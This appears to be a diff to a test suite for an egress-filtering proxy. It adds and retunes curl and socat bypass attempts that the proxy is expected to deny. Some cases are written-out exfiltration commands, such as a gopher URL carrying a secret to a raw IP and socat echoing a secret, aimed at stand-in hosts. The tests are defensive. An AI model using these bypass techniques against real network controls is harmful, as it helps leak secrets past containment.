@@ -81,10 +81,11 @@ CURL = {
     "curl -x, then a tunnel for HTTP (-p)": (["-p", "-x", PROXY, "http://bad.test/"], "not_allowed"),
     "curl --http2-prior-knowledge": (["--http2-prior-knowledge", "http://ok.test/"], "upgrade"),
     "curl --http2 over clear text (h2c)": (["--http2", "http://ok.test/"], "upgrade"),
+    "curl --haproxy-protocol": (["--haproxy-protocol", "https://ok.test/"], "http_malformed"),
     "curl --http0.9 to another server": (["--http0.9", f"http://{v4('other')}/"], "no_name"),
-    "curl telnet, gopher, dict to another port": (["-m", "20", f"gopher://{v4('raw')}:7/_{SECRET.decode()}"], "no_name"),
+    "curl telnet, gopher, dict to another port": (["-m", "60", f"gopher://{v4('raw')}:7/_{SECRET.decode()}"], "no_name"),
     "curl --doh-url": (["--doh-url", f"https://{v4('other')}/dns-query", "-k", "https://bad.test/"], "no_name"),
-    "curl FTP": (["-m", "20", f"ftp://{v4('raw')}/"], "no_name"),
+    "curl FTP": (["-m", "60", f"ftp://{v4('raw')}/"], "no_name"),
     "curl following a redirect": (["-L", "http://ok.test/redirect?to=http://bad.test/"], "not_allowed"),
 }
 
@@ -110,5 +111,5 @@ def test_curl(attack):
 ])
 def test_socat(attack, technique, argv, reason):
     with attack(technique) as attempt:
-        attempt.run(["socat", "-T", "20", f"SYSTEM:echo {SECRET.decode()}", *argv])
+        attempt.run(["socat", "-T", "60", f"SYSTEM:echo {SECRET.decode()}", *argv])
     assert attempt.recorded("decision", verdict="deny")[0]["reason"] == reason
